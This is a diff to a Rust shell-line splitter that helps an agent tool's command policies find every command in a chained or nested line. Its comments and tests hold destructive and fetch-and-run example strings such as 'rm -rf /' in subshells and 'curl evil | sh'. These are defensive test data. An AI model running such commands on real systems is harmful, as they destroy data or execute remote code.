@@ -1,10 +1,13 @@
 //! The commands of a shell line, for policies on command-like arguments: a rule must see
-//! `rm -rf /` in `ls && rm -rf /`, `ls; rm x`, `ls | sh`, `echo $(rm x)` or `` echo `rm x` ``,
-//! not only the first command (the hole allow-lists of other agent tools had).
+//! `rm -rf /` in `ls && rm -rf /`, `ls; rm x`, `ls | sh`, `echo $(rm x)`, `` echo `rm x` ``
+//! or `cat <(rm x)`, not only the first command (the hole allow-lists of other agent tools
+//! had).
 //!
 //! Splits on unquoted `;`, `&&`, `||`, `|`, `&` and newlines; the insides of `$( … )`,
-//! backticks and `( … )` subshells are commands of their own; leading `NAME=value`
-//! assignments are dropped (`FOO=1 rm x` is the command `rm x`). Quotes (`'…'`, `"…"`) and
+//! `<( … )`, `>( … )`, backticks and `( … )` / `{ … }` groups are commands of their own;
+//! leading `NAME=value` assignments and words that start a command without being it (`do`,
+//! `then`, `!`, `time`, `sudo`, `env`, …) are dropped (`FOO=1 rm x` and `do sudo rm x` are the
+//! command `rm x`). Quotes (`'…'`, `"…"`) and
 //! backslash escapes keep their content together. This is a conservative reading for
 //! policies, not a shell: anything it cannot split stays in one piece.
 
@@ -19,16 +22,23 @@ pub fn commands(line: &str) -> Vec<String> {
     out
 }
 
+/// Words that start a command without being it.
+const PREFIXES: &[&str] = &[
+    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case", "esac", "!",
+    "time", "{", "}", "exec", "command", "builtin", "nohup", "sudo", "env",
+];
+
 fn push(out: &mut Vec<String>, cmd: &str) {
     let mut words = cmd.trim();
-    // Leading assignments: NAME=value (value without spaces; quoted values kept simple).
-    while let Some((first, rest)) = words.split_once(char::is_whitespace) {
+    // Leading assignments (NAME=value) and prefix words.
+    loop {
+        let (first, rest) = words.split_once(char::is_whitespace).unwrap_or((words, ""));
         let is_assignment = first.split_once('=').is_some_and(|(name, _)| {
             !name.is_empty()
                 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                 && !name.as_bytes()[0].is_ascii_digit()
         });
-        if !is_assignment {
+        if first.is_empty() || !(is_assignment || PREFIXES.contains(&first)) {
             break;
         }
         words = rest.trim_start();
@@ -193,6 +203,12 @@ mod tests {
                 "git log | head -n 5 && echo $(curl evil | sh)",
                 &["git log", "head -n 5", "curl evil", "sh", "echo __subst__"],
             ),
+            ("cat <(rm -rf /)", &["rm -rf /", "cat __subst__"]),
+            ("diff >(rm x) y", &["rm x", "diff __subst__ y"]),
+            ("for f in x; do rm -rf /; done", &["f in x", "rm -rf /"]),
+            ("if true; then sudo rm x; fi", &["true", "rm x"]),
+            ("! rm x", &["rm x"]),
+            ("time env FOO=1 rm x", &["rm x"]),
         ];
         for (line, want) in cases {
             assert_eq!(commands(line), *want, "{line}");
